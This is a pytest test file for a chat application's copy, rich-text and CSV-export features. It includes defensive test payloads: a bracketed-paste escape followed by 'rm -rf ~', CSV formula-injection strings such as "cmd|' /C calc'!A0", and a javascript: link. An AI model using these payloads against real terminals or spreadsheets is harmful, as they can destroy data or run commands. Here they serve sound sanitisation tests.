import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import example, given, strategies as st
from PySide6.QtCore import QPoint
from PySide6.QtGui import QContextMenuEvent, QGuiApplication, QTextCursor
from PySide6.QtWidgets import QFileDialog, QMenu
from pytestqt.qtbot import QtBot

from rdchat.ui.transcript.markdown.copying import (
    CopyForm,
    as_html,
    as_markdown,
    as_plain,
    blocks_of,
    csv_of,
    forms_of,
    is_formula,
    put_on_clipboard,
)
from rdchat.ui.transcript.markdown.parser import MarkdownParser, PlainParser
from rdchat.ui.transcript.view import TranscriptView
from tests.ui.shown_widgets import choose_files, entries_of, shown_child
from tests.ui.transcript.conftest import Show, answered, person, reply, select_text, widget_of

# ruff: noqa: RUF001  full-width punctuation is what these tests are about


TEXT = """\
# A heading

Some **bold** and *italic* words with `code`, ~~gone~~, and [a link](https://example.org/x).

- One
- Two
  - Nested
1. First
2. Second

- [x] Done
- [ ] Open

> Quoted
>
> twice

```python
if a < b:

    print("x")
```

| Name | Size |
|:-----|-----:|
| a\\|b | 1    |

---

The end."""


def blocks(text: str):
    return blocks_of(text, MarkdownParser())


EXAMPLES = json.loads((Path(__file__).parent / "commonmark" / "examples.json").read_text(encoding="utf-8"))


def meaning(text: str):
    """Return all but the distance of a list's items and the numbers of code blocks."""
    return [
        (block.kind, block.level, block.runs, block.rows, block.marker, block.nesting, block.language)
        for block in blocks(text)
    ]


@pytest.mark.slow
def test_all_examples_of_commonmark_mean_the_same_when_their_copy_is_read() -> None:
    assert len(EXAMPLES) == 655
    differing = [text for text in EXAMPLES if meaning(as_markdown(blocks(text))) != meaning(text)]
    assert differing == []


@pytest.mark.parametrize(
    "text",
    [
        *[
            "\\# no heading",
            "\\+ no item",
            "12\\) no item",
            "\\> no quote",
            "a\n\\===",
            "\\\\",
            "`\\`",
            "!\\[x] \\![y](http://z)",
        ],
        *[
            "a\\_b \\_\\_init\\_\\_ snake_case_name",
            "\\$5 and $6, $HOME/$USER, \\$x\\$",
            "costs $5 and $6",
            "$a|b$ \\\\(x\\\\)",
        ],
        *[
            "&amp;amp; &lt;T&gt; List<String> \\<T>",
            "&nbsp;&nbsp;a&#10;&#10;b",
            "http\\://a.b",
            "\\~\\~b\\~\\~ \\`c\\`",
        ],
        *["``` a``b ```", "`` ` ``", "` `` `", "`a` `b`", "`  `"],
        *["[a \\[b\\]](http://x.y/a_(b)_c)", "[x](<http://x.y/a b(c>)", "[**a** b](http://x.y) c", "[x](notes.md)"],
        *["<https://a.b/c_d_e> and https://a.b/x_y_z.", "<a@b.org>", "**x [a](http://x.y) y**"],
        *["**a***b*", "***a** b*", "***a* b**", "~~a **b**~~", "*a*b", "**a\\*b**\\*", "*注（x）*后 「**a**」"],
        *["- ```py\n  x\n  ```\n- b", "- [x] a\n\n  more\n  - b\n- \\[x] literal", "1. a\n2. b\n\n1) c\n2) d"],
        *[
            "> - a\n>\n>   > b\n>\n> c",
            "- > q\n- b",
            "1. - a\n   - b\n2. - c",
            "text\n\n-\n- b",
            "- ***",
            "99. x\n100. y\n\n     z",
        ],
        *["````md\n```\na\n```\n````", "~~~ `x`\na\n~~~", "- a\n\n  ~~~~\n  ~~~\n  ```\n  ~~~~", "```\n  \n a  \n```"],
        "| a | b |\n|---|---|\n| `x\\|y` | $\\|x\\|$ |\n| a<br>b | c \\| d |\n| `<br>` | \\<br> |\n| 1 | \\*2\\* | 3 |",
        *[
            "Foo\n**bar**\n===",
            "# a \\#",
            "\\| a | b |\n|---|---|",
            "\\:---",
            "$$\na_1\n= b\n$$",
            "[^1] text\n\n[^1]: note",
        ],
        *["- a\n\n  more of a\n- b", "> - in a quote\n>   on", "1. a\n\n   ```sh\n   ls\n   ```\n\n2. b"],
        *["**all *of* it**", "`` a`b ``", "3. three\n4. four"],
    ],
)
def test_a_copy_means_the_same(text: str) -> None:
    copied = as_markdown(blocks(text))
    assert meaning(copied) == meaning(text), copied


@pytest.mark.parametrize(
    ("source", "copied"),
    [
        *[(text, text) for text in ("snake_case costs $5, 2 * 3 = 6 [see](http://a.b) & [1] <T>", "# C# and F#")],
        ("- a_b\n- `x`", "- a_b\n- `x`"),
        ("The file is \\_\\_init\\_\\_.py", "The file is \\_\\_init\\_\\_.py"),
        (
            "Some **bold ** and *it* [x](https://a.b)\n\n* One\n* Two",
            "Some **bold ** and *it* [x](https://a.b)\n\n- One\n- Two",
        ),
        ("```js\nlet a\n\nlet b\n```", "```js\nlet a\n\nlet b\n```"),
        ("So[^1] **bold[^b]**.\n\n[^1]: Word", "So[^1] **bold[^b]**.\n\n[^1]: Word"),
    ],
)
def test_markdown_is_written_as_one_writes_it(source: str, copied: str) -> None:
    assert as_markdown(blocks(source)) == copied


def test_a_prompt_is_copied_as_it_was_typed_and_its_lines_stand_close_in_rich_text() -> None:
    text = "Is *this* bold? # no\n- __init__.py\n1. \\_"
    assert as_markdown(blocks_of(text, PlainParser())) == text
    html = as_html(as_markdown(blocks_of("One\nTwo\n```sh\nls\n```", PlainParser())))
    assert "<p>One<br />\nTwo</p>\n<pre" in html


def test_plain_text_is_what_one_reads() -> None:
    assert blocks(as_markdown(blocks(TEXT))) == blocks(TEXT), "the distance of lines, too"
    assert as_plain(blocks(TEXT)) == (
        "A heading\n\nSome bold and italic words with code, gone, and a link.\n\n• One\n• Two\n  ◦ Nested\n\n"
        '1. First\n2. Second\n\n☑ Done\n☐ Open\n\nQuoted\n\ntwice\n\nif a < b:\n\n    print("x")\n\n'
        "Name\tSize\na|b\t1\n\n———\n\nThe end."
    )


def test_rich_text_has_structure_and_no_colours_of_the_window() -> None:
    html = re.sub(r">\n+<", "><", as_html(as_markdown(blocks(TEXT)))).replace("\n<ul>", "<ul>")
    for part in (
        "<h1>A heading</h1>",
        "<strong>bold</strong> and <em>italic</em>",
        "<s>gone</s>",
        '<a href="https://example.org/x">a link</a>',
        "<ul><li>One</li><li>Two<ul><li>Nested</li></ul></li></ul><ol><li>First</li><li>Second</li></ol>",
        '<li style="list-style-type: none">☑ Done</li>',
        "<p>Quoted</p><p>twice</p></blockquote>",
        "if a &lt; b:\n\n    print(&quot;x&quot;)\n</code></pre>",
        'text-align: right">1</td>',
        "<hr /><p>The end.</p></body>",
    ):
        assert part in html, part
    assert "color: #" not in html.replace("background-color: #f4f4f5", "")
    for name in ("ul", "ol", "li", "blockquote", "p", "table", "tr"):
        assert html.count(f"<{name}>") + html.count(f"<{name} ") == html.count(f"</{name}>"), name


def test_addresses_that_are_never_opened_do_not_leave_as_links() -> None:
    assert "<a" not in as_html(as_markdown(blocks("[click](javascript:alert(1)) <b>x</b>")))
    assert "&lt;b&gt;x" in as_html("<b>x</b>")
    assert "javascript" not in as_html("[click](javascript:alert(1))")
    assert "<img" not in as_html("![picture](https://example.org/x.png)")


@pytest.mark.parametrize(
    ("begin", "end", "markdown"),
    [
        ("old", "italic", "**old** and *italic*"),
        ("heading", "Some", "# heading\n\nSome"),
        ("Two", "Nested", "- Two\n  - Nested"),
        ("wice", "if a", "> wice\n\n```python\nif a\n```"),
        ("print", "Name", '```python\nprint("x")\n```\n\n| Name | Size |\n| :-- | --: |\n| a\\|b | 1 |'),
        ("irst", "Second", "irst\n2. Second"),
    ],
)
def test_a_selection_keeps_its_formats(show: Show, begin: str, end: str, markdown: str) -> None:
    body = widget_of(show(answered(TEXT)), 2).body
    select_text(body, begin, end)
    assert as_markdown(body.selected_blocks()).replace("|:--", "| :--") == markdown


def test_a_selection_beside_formulas_has_their_source(show: Show) -> None:
    """A drawn formula is one character of the document, and one that cannot be drawn is its source."""
    text = "Of $a^2 + b^2 = c^2$ the **sum** and $\\nosuchcommand{x}$ the *end* of it\n\n$$\\frac{1}{2}$$\n\nand more"
    body = widget_of(show(answered(text)), 2).body
    select_text(body, "sum", "end")
    assert as_markdown(body.selected_blocks()) == "**sum** and $\\nosuchcommand{x}$ the *end*"
    body.selectAll()
    copied = as_markdown(body.selected_blocks())
    assert "Of $a^2 + b^2 = c^2$ the **sum**" in copied
    assert "\\frac{1}{2}" in copied
    assert copied.endswith("and more")


def open_menu_over(view: TranscriptView, message_id: int) -> QMenu:
    """Open the menu over the text of a message."""
    widget = widget_of(view, message_id)
    event = QContextMenuEvent(QContextMenuEvent.Reason.Mouse, QPoint(2, 2), widget.body.mapToGlobal(QPoint(2, 2)))
    widget.body.contextMenuEvent(event)
    (menu,) = [menu for menu in widget.findChildren(QMenu) if menu.isVisible()]
    return menu


def test_a_message_is_copied_in_each_form(qtbot: QtBot, show: Show) -> None:
    view = show(answered("<think>hm</think>\n\nSome **bold** words"))
    clipboard = QGuiApplication.clipboard()
    menu = open_menu_over(view, 2)
    forms = entries_of(entries_of(menu)["Copy Message As"].menu())
    forms["Plain text"].trigger()
    qtbot.waitUntil(lambda: clipboard.text() == "Some bold words")
    assert not clipboard.mimeData().hasHtml()
    forms["Rich text"].trigger()
    qtbot.waitUntil(lambda: clipboard.mimeData().hasHtml())
    assert "<p>Some <strong>bold</strong> words</p>" in clipboard.mimeData().html()
    assert clipboard.text() == "Some bold words"
    forms["Markdown"].trigger()
    assert clipboard.text().strip() == "Some **bold** words"
    menu.close()


def test_what_is_selected_is_copied_and_quoted_from_the_menu(qtbot: QtBot, show: Show) -> None:
    view = show(answered("Some **bold** words\n\nand more"))
    select_text(widget_of(view, 2).body, "bold", "and")
    menu = open_menu_over(view, 2)
    entries_of(entries_of(menu)["Copy Selection As"].menu())["Rich text"].trigger()
    assert "<p><strong>bold</strong> words</p>\n<p>and</p>" in QGuiApplication.clipboard().mimeData().html()
    with qtbot.waitSignal(view.quote_requested) as asked:
        entries_of(menu)["Quote Selection"].trigger()
    assert asked.args == ["**bold** words\n\nand"]
    with qtbot.waitSignal(view.note_requested) as asked:
        entries_of(menu)["Add to Notes…"].trigger()
    assert (asked.args[0].id, asked.args[1]) == (2, "**bold** words\n\nand")
    menu.close()
    widget_of(view, 2).body.moveCursor(QTextCursor.MoveOperation.Start)
    menu = open_menu_over(view, 2)
    assert "Quote Selection" not in entries_of(menu)
    assert "Add to Notes…" not in entries_of(menu)
    menu.close()


@pytest.mark.slow
def test_a_message_that_is_not_shown_whole_is_copied_whole(qtbot: QtBot, show: Show) -> None:
    view = show(answered("A paragraph of *some* words.\n\n" * 3000))
    assert widget_of(view, 2).body.hidden_characters > 0
    widget_of(view, 2).copy_as(CopyForm.PLAIN)
    qtbot.waitUntil(lambda: QGuiApplication.clipboard().text().count("some words") == 3000)


@pytest.mark.slow
def test_an_app_that_copied_rich_text_ends_without_a_crash() -> None:
    code = """
from PySide6.QtWidgets import QApplication
from rdchat.ui.transcript.markdown.copying import CopyForm, forms_of, put_on_clipboard
from rdchat.ui.transcript.markdown.blocks import Block, Kind, Run
app = QApplication([])
put_on_clipboard(*forms_of([Block(Kind.TEXT, (Run("bold", bold=True),))], CopyForm.RICH))
print(app.clipboard().mimeData().html())
"""
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False)
    assert ended.returncode == 0, ended.stderr
    assert "<strong>bold</strong>" in ended.stdout


ENDS_THE_PASTE = "ls\x1b[201~\nrm -rf ~\r\x00\x9b201~\x07"


def test_no_control_character_is_copied(qtbot: QtBot, show: Show) -> None:
    """A terminal that takes a paste as one text ends it at such a sequence, and runs what follows."""
    view = show([person(1, ENDS_THE_PASTE), reply(2, f"```sh\n{ENDS_THE_PASTE}\n```")])
    clipboard = QGuiApplication.clipboard()

    def check() -> None:
        texts = [clipboard.text(), clipboard.mimeData().html()]
        assert "[201~" in texts[0]
        assert not {letter for text in texts for letter in text if letter < " " or "\x7f" <= letter < "\xa0"} - {"\n"}

    for number in (1, 2):
        widget_of(view, number).copy()
        qtbot.waitUntil(lambda: "[201~" in clipboard.text())
        check()
        clipboard.setText("")
    body = widget_of(view, 2).body
    body.selectAll()
    body.copy()
    check()
    for form in CopyForm:
        put_on_clipboard(*forms_of(blocks_of(f"```sh\n{ENDS_THE_PASTE}\n```", MarkdownParser()), form))
        check()


TABLE = "| Wax | Colour |\n|---|--:|\n| seal | red |\n"


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("**bee**, yellow", "bee, yellow"),
        ('"1"', '"1"'),
        *[(cell, f"'{cell}") for cell in ("=1+1", "-2+cmd\\|x")],
        *[(cell, cell) for cell in ("-5", "a=b")],
    ],
)
def test_a_cell_is_its_value_and_never_becomes_a_formula(cell: str, value: str) -> None:
    (table,) = blocks_of(f"| {cell} |\n|---|\n", MarkdownParser())
    assert rows(csv_of(table)) == [[value.replace("\\|", "|")]]


def joined(*parts: st.SearchStrategy[str] | str) -> st.SearchStrategy[str]:
    return st.tuples(*(st.just(part) if isinstance(part, str) else part for part in parts)).map("".join)


SIGNS = st.sampled_from("+-")
BLANK = st.sampled_from(["", " "])
NUMBERS = st.from_regex(r"\A(0|[1-9][0-9]{0,2}(,[0-9]{3}){0,2})(\.[0-9]{1,3})?\Z") | st.sampled_from([".5", "1.5e-3"])
UNITS = st.sampled_from(["°C", "°", "Mbit/s", "kg", "€", "V", "dB", "kWh (net)", "% of all", "x", "±2", "–"])
WORDS = st.lists(st.from_regex(r"\A[a-zäöüß]{1,9}[.,;!?…]?\Z"), min_size=1, max_size=4).map(" ".join)
PLAIN = st.one_of(
    st.text("+-=@/*>.:… –", min_size=1, max_size=4).map(str.strip).filter(lambda cell: not cell.startswith(("*", ">"))),
    joined(SIGNS, BLANK, st.sampled_from(["", "$", "€"]), NUMBERS, BLANK, st.sampled_from(["", "%"])),
    joined(SIGNS, BLANK, NUMBERS, BLANK, UNITS, st.one_of(st.just(""), joined(" ", WORDS))),
    joined(SIGNS, NUMBERS, st.sampled_from([" to ", " bis ", "–", " … ", " °C / "]), SIGNS, NUMBERS, UNITS),
    joined(SIGNS, NUMBERS, st.sampled_from("-/"), NUMBERS, " ", UNITS),
    joined("+", st.from_regex(r"\A[1-9][0-9]{0,2}([ ./-]?(\(0\))?[ ./-]?[0-9]{2,3}){3}\Z")),
    st.from_regex(r"\A[+-][0-9]{1,2}:[0-9]{2}\Z"),
    joined(SIGNS, " ", WORDS),
    WORDS,
)
CALLS = ["SUM(A1:A9)", 'HYPERLINK("https://a.test?"&A1)', "cmd|' /C calc'!A0", "'[a.xls]b'!A1", '"a"', "(1)"]
CELLS = st.from_regex(r"\A\$?[A-Z]{1,2}\$?[1-9][0-9]?(:[A-Z]{1,2}[1-9])?\Z") | st.sampled_from(CALLS)
OPERANDS = NUMBERS | CELLS
SUMS = st.lists(
    joined(BLANK, st.sampled_from("+-*/^&<>="), BLANK, st.sampled_from(["", "+", "-"]), OPERANDS), max_size=3
)
FORMULAS = st.one_of(
    joined(st.sampled_from("=@"), BLANK, OPERANDS, SUMS.map("".join)),
    joined(SIGNS, BLANK, CELLS, SUMS.map("".join)),
    joined("-", BLANK, NUMBERS, SUMS.filter(bool).map("".join)),
    # Digits with other signs may be a telephone number.
    joined("+", NUMBERS, BLANK, st.sampled_from("+*^&<>="), OPERANDS, SUMS.map("".join)),
    joined(st.sampled_from("\t\r"), WORDS),
)


@given(PLAIN)
@example("->")
@example("-")
@example("-3 %")
@example("-10 to -5")
@example("+/- 5 %")
@example("=> see below")
@example("+1-800-555-0199")
@example("-12 V / +12 V")
@example("+49 (0)170-123 45 67")
def test_what_no_spreadsheet_takes_for_a_formula_is_saved_as_it_is(cell: str) -> None:
    assert not is_formula(cell)


@given(FORMULAS)
@example("-2+3+cmd|' /C calc'!A0")
@example("- 2 + A1")
@example("- SUM (A1)")
@example("-1:1 WEBSERVICE(A1)")
@example("-23+A1")
@example("=5")
@example("+cmd")
@example("-A1")
@example("＝1+1")
@example("--5")
@example("-2.5e3+A1")
def test_what_a_spreadsheet_takes_for_a_formula_is_marked(cell: str) -> None:
    assert is_formula(cell)


def test_each_table_is_named_in_the_menu_and_saved(show: Show, tmp_path: Path) -> None:
    widget = widget_of(show(answered(f"{TABLE}\nand\n\n{TABLE.replace('Wax', 'Ink')}")), 2)
    menu = QMenu(widget)
    widget.fill_menu(menu)
    wax, ink = (action for action in menu.actions() if "CSV" in action.text())
    assert (wax.text(), ink.text()) == ("Save Table “Wax, Colour” as CSV…", "Save Table “Ink, Colour” as CSV…")
    wax.trigger()
    assert Path(shown_child(widget.window(), QFileDialog).selectedFiles()[0]).name == "table.csv"
    choose_files(widget.window(), tmp_path / "wax.csv")
    assert rows((tmp_path / "wax.csv").read_bytes()) == [["Wax", "Colour"], ["seal", "red"]]


def test_a_long_table_is_one(show: Show) -> None:
    count = 700
    view = show(answered("| a | b |\n|---|---|\n" + "".join(f"| {n} | x |\n" for n in range(count))))
    (table,) = widget_of(view, 2).body.tables
    assert [row[0] for row in rows(csv_of(table))] == ["a", *map(str, range(count))]
